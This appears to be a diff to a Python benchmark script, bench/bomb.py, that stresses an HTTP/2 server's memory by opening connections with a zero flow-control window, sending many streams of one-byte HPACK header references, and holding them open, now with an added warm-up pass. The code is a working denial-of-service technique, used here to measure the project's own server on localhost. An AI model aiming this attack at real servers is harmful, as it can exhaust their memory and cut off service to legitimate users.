@@ -5,7 +5,10 @@ Each connection sets SETTINGS_INITIAL_WINDOW_SIZE to 0, puts one small cookie in
 opens --streams requests made of --refs one-byte references to it, then holds them: every second a 1-byte
 connection WINDOW_UPDATE, so that something always moves. An honest client asks for --path once a second
 meanwhile. With --pid, the server's peak RSS (VmHWM, reset first through /proc/PID/clear_refs) is compared with
-its RSS before, and its RSS is read again --settle seconds after the attack ended.
+its RSS before, and its RSS is read again --settle seconds after the attack ended. With --warmup the same
+connections and requests are made once, unheld, first: a worker's fixed memory (its 4 MiB pool of receive buffers,
+touched as traffic comes; the allocator's metadata) is then resident already, as on any server that has seen
+traffic, and the growth measured is what the attack holds.
 
     bench/bomb.py --port 8080 --pid $(pidof h2serve)            # h2c, 40 x 100 x 124, held 10 s
     bench/bomb.py --port 8443 --tls --pid $(pidof h2serve)
@@ -135,6 +138,22 @@ def honest_get(args):
     return bool(status.get("code") and status.get("done"))
 
 
+def open_attack(args, scheme):
+    """The attack's connections, their requests sent; non-blocking from then on."""
+    conns = []
+    for _ in range(args.conns):
+        c = Conn(args)
+        settings = frame(SETTINGS, 0, 0, struct.pack(">HI", 0x4, 0) + struct.pack(">HI", 0x2, 0))
+        blocks = b"".join(
+            frame(HEADERS, END_STREAM | END_HEADERS, 1 + 2 * i,
+                  request_block(scheme, args.authority, args.path.encode(), args.refs, i == 0))
+            for i in range(args.streams))
+        c.send(PREFACE + settings + blocks)
+        c.sock.setblocking(False)
+        conns.append(c)
+    return conns
+
+
 def main():
     p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
     p.add_argument("--host", default="127.0.0.1")
@@ -147,26 +166,24 @@ def main():
     p.add_argument("--path", default="/hello")
     p.add_argument("--pid", type=int, help="the server's pid, to read its memory")
     p.add_argument("--settle", type=float, default=3, help="seconds after the attack before RSS is read again")
+    p.add_argument("--warmup", action="store_true", help="make the connections and requests once, unheld, first")
     args = p.parse_args()
     args.authority = f"{args.host}:{args.port}".encode()
     scheme = "https" if args.tls else "http"
 
+    if args.warmup:
+        conns = open_attack(args, scheme)
+        time.sleep(0.5)
+        for c in conns:
+            c.pump()
+            c.sock.close()
+        time.sleep(args.settle)
     if args.pid:
         with open(f"/proc/{args.pid}/clear_refs", "w") as f:
             f.write("5")  # VmHWM starts again from VmRSS
         rss_before = memory(args.pid, "VmRSS")
     started = time.monotonic()
-    conns = []
-    for _ in range(args.conns):
-        c = Conn(args)
-        settings = frame(SETTINGS, 0, 0, struct.pack(">HI", 0x4, 0) + struct.pack(">HI", 0x2, 0))
-        blocks = b"".join(
-            frame(HEADERS, END_STREAM | END_HEADERS, 1 + 2 * i,
-                  request_block(scheme, args.authority, args.path.encode(), args.refs, i == 0))
-            for i in range(args.streams))
-        c.send(PREFACE + settings + blocks)
-        c.sock.setblocking(False)
-        conns.append(c)
+    conns = open_attack(args, scheme)
     sel = selectors.DefaultSelector()
     for c in conns:
         sel.register(c.sock, selectors.EVENT_READ, c)
